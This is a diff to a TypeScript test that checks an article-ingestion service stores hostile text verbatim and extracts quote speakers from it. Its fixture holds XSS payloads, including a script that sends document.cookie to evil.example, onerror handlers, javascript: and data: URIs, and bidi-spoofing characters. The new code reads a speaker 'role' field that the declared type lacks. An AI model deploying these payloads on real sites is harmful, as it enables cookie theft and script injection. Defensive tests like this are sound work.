@@ -210,6 +210,7 @@ describe('hostile article data is stored and returned as data', () => {
       `Officials met on Monday. <script>document.location="https://evil.example/?c="+document.cookie</script> The visit of <img src=x onerror=alert(1)> ended. Links: javascript:alert(1) and data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== were shared. ${LONG_WORD}`,
       `"The harbour tunnel will open <b onmouseover=alert(1)>next spring</b> as planned \u202edenalp sa\u202c," said Mallory <script>alert(2)</script> Jones.`,
       `"We reject every claim made in the report about the tunnel budget," Eve\u202e \u2067Mallory\u2069 told reporters.`,
+      `"The bridge is safe for heavy lorries and buses," said <img src=x onerror=alert(1)> Smith.`,
     ].join('\n\n'),
   };
 
@@ -225,16 +226,20 @@ describe('hostile article data is stored and returned as data', () => {
     expect(article.publisher).toBe(hostile.publisher);
     expect(article.author).toBe(hostile.author);
     const texts: string[] = [];
+    // Speakers are extracted from the text: names and roles carry the hostile markup and bidi controls verbatim.
     const speakers: string[] = [];
     for (const id of article.excerptIds) {
       const got = (await (await request(`/v1/excerpts/${id}`)).json()) as { excerpt: { text: string; quotes: { speaker?: { name: string } }[] } };
       texts.push(got.excerpt.text);
-      for (const q of got.excerpt.quotes) if (q.speaker) speakers.push(q.speaker.name);
+      for (const q of got.excerpt.quotes) if (q.speaker) speakers.push(`${q.speaker.name} | ${q.speaker.role ?? ''}`);
     }
     const all = texts.join('\n\n');
     for (const fragment of ['<b onmouseover=alert(1)>next spring</b>', '<script>document.location=', '<img src=x onerror=alert(1)>', 'javascript:alert(1)', 'data:text/html;base64,', '\u202edenalp sa\u202c']) {
       expect(all).toContain(fragment);
     }
+    expect(speakers).toContain('Eve\u202e \u2067Mallory\u2069 | ');
+    expect(speakers.some((s) => s.startsWith('Jones | ') && s.includes('<script>'))).toBe(true);
+    expect(speakers.some((s) => s.startsWith('Smith | ') && s.includes('<img src=x onerror='))).toBe(true);
     // Ingestion cuts excerpts at 1,800 characters, so the 10,000-character word spans several, unaltered.
     expect(texts.join('')).toContain(LONG_WORD);
     const found = await lookupPost({ exact: 'The harbour tunnel will open next spring as planned' });
